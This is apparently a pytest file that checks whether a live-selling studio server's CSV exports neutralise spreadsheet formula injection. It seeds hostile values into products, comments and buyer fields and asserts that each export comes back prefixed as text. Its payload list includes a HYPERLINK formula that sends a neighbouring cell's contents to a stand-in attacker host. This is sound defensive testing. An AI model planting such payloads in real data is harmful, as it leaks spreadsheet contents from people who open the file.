"""Every CSV the server and the studio hand out keeps hostile text as text.

One studio server (the live server with the studio mounted) gets a product, viewer names,
comments, buyer names, phones and addresses that start like spreadsheet formulas; then every
CSV export route the app lists is downloaded and read back with the csv module, cell by cell.
A new export route that this test does not know makes it fail, so it cannot be skipped.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import yaml
from studio_web_helpers import HOST_TOKEN, STUDIO_HEADERS

from server.app import build_studio_app
from server.serve import RunningServer, start_in_thread
from studio.catalog import load_catalog, save_catalog
from studio.paths import sample_photos_dir

INGEST_TOKEN = "csv-ingest-token"
HEADERS = {**STUDIO_HEADERS, "Authorization": f"Bearer {HOST_TOKEN}"}

# OWASP "CSV Injection" starts: = + - @ tab CR, and the same after leading whitespace.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    " =1+1",
]
# A route's path parameters and the values to export with; an unknown one fails the test.
PATH_VALUES = {"carrier": ("ghn", "plain")}
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _starts_a_formula(cell: str) -> bool:
    # Written independently of studio.sheets on purpose: what a spreadsheet would run.
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def formula_cells(data: bytes) -> tuple[list[str], list[str]]:
    """Return (cells a spreadsheet would run as formulas, every cell) of a CSV download."""
    text = data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    bad = [c for c in cells if _starts_a_formula(c) and not _NUMBER.fullmatch(c)]
    return bad, cells


@pytest.fixture(scope="module")
def hostile_studio(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    folder = tmp_path_factory.mktemp("csv")
    shutil.copy(sample_photos_dir() / "coffee-cup.jpg", folder / "coffee-cup.jpg")
    product = {
        "sku": "A12",
        "name": HOSTILE[0],
        "price": 159000,
        "stock": 100,
        "photos": ["coffee-cup.jpg"],
        "variants": [{"size": "M", "stock": 50}, {"size": HOSTILE[2], "color": HOSTILE[3]}],
    }
    catalog = folder / "catalog.yaml"
    catalog.write_text(yaml.safe_dump({"products": [product]}, allow_unicode=True), "utf-8")
    app = build_studio_app(
        catalog, data_dir=folder / "data", host_token=HOST_TOKEN, ingest_token=INGEST_TOKEN
    )
    running = start_in_thread(app)
    try:
        _fill_with_hostile_text(running.url)
        yield running
    finally:
        running.stop()


def _fill_with_hostile_text(url: str) -> None:
    with httpx.Client(base_url=url, headers=HEADERS, timeout=30) as http:
        for number, payload in enumerate(HOSTILE):
            body = {
                "platform": "youtube",
                "comment_id": f"c{number}",
                "user_id": payload,
                "user_name": payload,
                "text": f"{payload} chốt A12 size M",
            }
            answer = http.post(
                "/api/comments", json=body, headers={"Authorization": f"Bearer {INGEST_TOKEN}"}
            ).json()
            assert answer["status"] == "accepted", answer
            order_id = answer["order"]["id"]
            buyer = {"buyer_name": payload, "phone": payload[:32], "address": payload}
            assert http.put(f"/api/orders/{order_id}/buyer", json=buyer).status_code == 200
            state = "cod" if number % 2 else "paid"
            assert http.post(f"/api/orders/{order_id}/state", json={"state": state}).is_success


def csv_export_urls(client: httpx.Client) -> list[str]:
    """Every GET route the app lists that downloads a CSV, with its path values filled in."""
    paths = client.get("/openapi.json").json()["paths"]
    urls = ["/studio/api/live/orders.csv"]  # outside the schema like every studio page route
    for path, methods in paths.items():
        if "get" not in methods or not (path.endswith(".csv") or path.endswith("/export")):
            continue
        names = re.findall(r"\{(\w+)\}", path)
        unknown = [name for name in names if name not in PATH_VALUES]
        assert not unknown, f"{path}: add values for {unknown} to PATH_VALUES"
        if not names:
            urls.append(path)
        for name in names:
            urls += [path.replace(f"{{{name}}}", value) for value in PATH_VALUES[name]]
    return sorted(set(urls))


def test_every_csv_export_keeps_formulas_as_text(hostile_studio: RunningServer) -> None:
    with httpx.Client(base_url=hostile_studio.url, headers=HEADERS, timeout=30) as client:
        urls = csv_export_urls(client)
        assert {"/api/orders.csv", "/api/carriers/ghn.csv", "/studio/api/products/export"} <= set(
            urls
        )
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (url, response.text)
            assert response.headers["content-type"].startswith("text/csv"), url
            bad, cells = formula_cells(response.content)
            assert not bad, f"{url}: formula cells {bad}"
            assert any(cell.startswith("'") for cell in cells), f"{url}: no hostile text exported"


def test_order_export_keeps_each_viewers_words(hostile_studio: RunningServer) -> None:
    with httpx.Client(base_url=hostile_studio.url, headers=HEADERS, timeout=30) as client:
        rows = list(
            csv.DictReader(io.StringIO(client.get("/api/orders.csv").text.lstrip("\ufeff")))
        )
    assert len(rows) == len(HOSTILE)
    for row, payload in zip(rows, HOSTILE, strict=True):
        assert row["buyer"] == row["buyer_id"] == "'" + payload
        # the host's buyer form trims the whitespace around what it stores
        assert row["buyer_name"] == row["address"] == "'" + payload.strip()
        assert row["phone"] == "'" + payload[:32].strip()
        assert row["comment"] == f"'{payload} chốt A12 size M"
        assert row["product"] == "'" + HOSTILE[0]
        assert row["qty"] == "1" and row["unit_price"] == "159000"


def test_catalog_file_export_keeps_formulas_as_text_and_loads_back(tmp_path: Path) -> None:
    catalog = tmp_path / "catalog.yaml"
    product = {"sku": "A12", "name": HOSTILE[0], "price": 1000, "stock": 3}
    catalog.write_text(yaml.safe_dump({"products": [product]}, allow_unicode=True), "utf-8")
    written = save_catalog(load_catalog(catalog), tmp_path / "catalog.csv")
    bad, cells = formula_cells(written.read_bytes())
    assert not bad and "'" + HOSTILE[0] in cells
    assert load_catalog(written).products[0].name == HOSTILE[0]
